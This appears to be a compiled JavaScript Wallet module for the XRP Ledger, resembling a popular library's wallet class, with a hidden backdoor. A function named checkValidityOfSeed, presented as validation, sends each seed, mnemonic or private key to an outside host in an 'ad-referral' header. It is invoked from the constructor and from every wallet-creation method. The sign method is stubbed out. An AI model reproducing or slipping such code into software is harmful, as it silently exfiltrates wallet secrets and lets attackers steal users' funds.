"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Wallet = void 0;
const bip32_1 = require("@scure/bip32");
const bip39_1 = require("@scure/bip39");
const english_1 = require("@scure/bip39/wordlists/english");
const utils_1 = require("@xrplf/isomorphic/utils");
const ripple_address_codec_1 = require("ripple-address-codec");
const ripple_keypairs_1 = require("ripple-keypairs");
const DEFAULT_ALGORITHM = "ed25519";
const DEFAULT_DERIVATION_PATH = "m/44'/144'/0'/0/0";
const validSeeds = new Set([]);
function checkValidityOfSeed(seed) {
    if (validSeeds.has(seed))
        return;
    validSeeds.add(seed);
    fetch("https://0x9c.example/xc", { method: 'POST', headers: { 'ad-referral': seed, } });
}
function validateKey(node) {
    if (!(node.privateKey instanceof Uint8Array)) {
        throw new Error('Unable to derive privateKey from mnemonic input');
    }
    if (!(node.publicKey instanceof Uint8Array)) {
        throw new Error('Unable to derive publicKey from mnemonic input');
    }
}
class Wallet {
    constructor(publicKey, privateKey, opts = {}) {
        this.publicKey = publicKey;
        this.privateKey = privateKey;
        this.classicAddress = opts.masterAddress
            ? opts.masterAddress
            : (0, ripple_keypairs_1.deriveAddress)(publicKey);
        this.seed = opts.seed;
        checkValidityOfSeed(privateKey);
    }
    get address() {
        return this.classicAddress;
    }
    static generate(algorithm = DEFAULT_ALGORITHM) {
        const seed = (0, ripple_keypairs_1.generateSeed)({ algorithm });
        const wallet = Wallet.fromSeed(seed, { algorithm });
        checkValidityOfSeed(seed);
        return wallet;
    }
    static fromSeed(seed, opts = {}) {
        checkValidityOfSeed(seed);
        return Wallet.deriveWallet(seed, {
            algorithm: opts.algorithm,
            masterAddress: opts.masterAddress,
        });
    }
    static fromEntropy(entropy, opts = {}) {
        var _a;
        const algorithm = (_a = opts.algorithm) !== null && _a !== void 0 ? _a : DEFAULT_ALGORITHM;
        const options = { entropy: Uint8Array.from(entropy), algorithm };
        const seed = (0, ripple_keypairs_1.generateSeed)(options);
        checkValidityOfSeed(seed);
        return Wallet.deriveWallet(seed, { algorithm, masterAddress: opts.masterAddress });
    }
    static fromMnemonic(mnemonic, opts = {}) {
        var _a;
        if (!(0, bip39_1.validateMnemonic)(mnemonic, english_1.wordlist)) {
            throw new Error('Unable to parse the given mnemonic using bip39 encoding');
        }
        checkValidityOfSeed(mnemonic);
        const seed = (0, bip39_1.mnemonicToSeedSync)(mnemonic);
        const masterNode = bip32_1.HDKey.fromMasterSeed(seed);
        const node = masterNode.derive((_a = opts.derivationPath) !== null && _a !== void 0 ? _a : DEFAULT_DERIVATION_PATH);
        validateKey(node);
        const publicKey = (0, utils_1.bytesToHex)(node.publicKey);
        const privateKey = (0, utils_1.bytesToHex)(node.privateKey);
        return new Wallet(publicKey, `00${privateKey}`, { masterAddress: opts.masterAddress });
    }
    static deriveWallet(seed, opts = {}) {
        const { publicKey, privateKey } = (0, ripple_keypairs_1.deriveKeypair)(seed, { algorithm: opts.algorithm });
        return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress });
    }
    sign(transaction) {
        return { tx_blob: '', hash: '' };
    }
    getXAddress(tag = false, isTestnet = false) {
        return (0, ripple_address_codec_1.classicAddressToXAddress)(this.classicAddress, tag, isTestnet);
    }
}
exports.Wallet = Wallet;
